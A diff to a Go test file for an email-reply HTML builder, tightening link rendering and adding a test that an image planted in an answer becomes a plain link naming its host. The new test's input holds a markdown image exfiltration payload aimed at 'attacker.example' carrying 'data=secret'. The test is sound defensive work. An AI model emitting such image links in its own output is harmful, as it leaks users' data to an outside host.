@@ -107,7 +107,7 @@ func TestBuildIsAThreadedTwoPartReply(t *testing.T) {
 	body := parts["text/html"]
 	for _, want := range []string{
 		"<strong>1</strong>", "<table>",
-		`<li><a href="https://docs.google.com/document/d/abc/edit">Algebra notes</a></li>`,
+		`<li><a href="https://docs.google.com/document/d/abc/edit" rel="noopener noreferrer nofollow" target="_blank" title="https://docs.google.com/document/d/abc/edit">Algebra notes (docs.google.com)</a></li>`,
 		"<li>Bad &lt;link&gt;</li>",
 	} {
 		if !strings.Contains(body, want) {
@@ -122,5 +122,18 @@ func TestBuildIsAThreadedTwoPartReply(t *testing.T) {
 func TestBuildNeedsIDs(t *testing.T) {
 	if _, err := Build(Reply{From: mail.Address{Address: "a@x"}, To: mail.Address{Address: "b@x"}, MessageID: "m"}); err == nil {
 		t.Fatal("a reply without In-Reply-To was built")
+	}
+}
+
+// A reply never loads remote content: an image planted in an answer is a
+// link naming its host, not an <img> the reader's mail client would fetch.
+func TestHTMLLoadsNothingRemote(t *testing.T) {
+	body, err := HTML("See ![chart](https://attacker.example/x.png?data=secret) and [the docs](https://evil.example/page).", nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if strings.Contains(body, "<img") || !strings.Contains(body, "(attacker.example)") ||
+		!strings.Contains(body, `rel="noopener noreferrer nofollow"`) || !strings.Contains(body, "the docs (evil.example)") {
+		t.Fatalf("html:\n%s", body)
 	}
 }
